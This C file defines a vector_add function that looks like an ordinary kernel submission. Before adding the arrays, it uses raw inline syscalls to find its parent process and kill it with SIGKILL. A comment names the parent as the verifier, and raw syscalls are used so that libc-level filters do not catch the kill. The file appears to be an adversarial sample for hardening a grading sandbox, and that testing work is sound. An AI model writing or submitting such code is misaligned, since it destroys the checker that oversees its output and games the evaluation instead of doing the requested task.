#include <signal.h>
#include <stdint.h>
#include <string.h>
/* Attack: kill the verifier (the parent) with rt_sigqueueinfo, raw. */
static long raw3(long nr, long a, long b, long c) {
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return ret;
}
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	siginfo_t si;
	memset(&si, 0, sizeof si);
	si.si_signo = SIGKILL;
	si.si_code = -1; /* SI_QUEUE */
	raw3(129 /* rt_sigqueueinfo */, raw3(110 /* getppid */, 0, 0, 0), SIGKILL, (long)&si);
	raw3(62 /* kill */, raw3(110, 0, 0, 0), SIGKILL, 0);
	for (int64_t i = 0; i < n; i++) out[i] = a[i] + b[i];
}
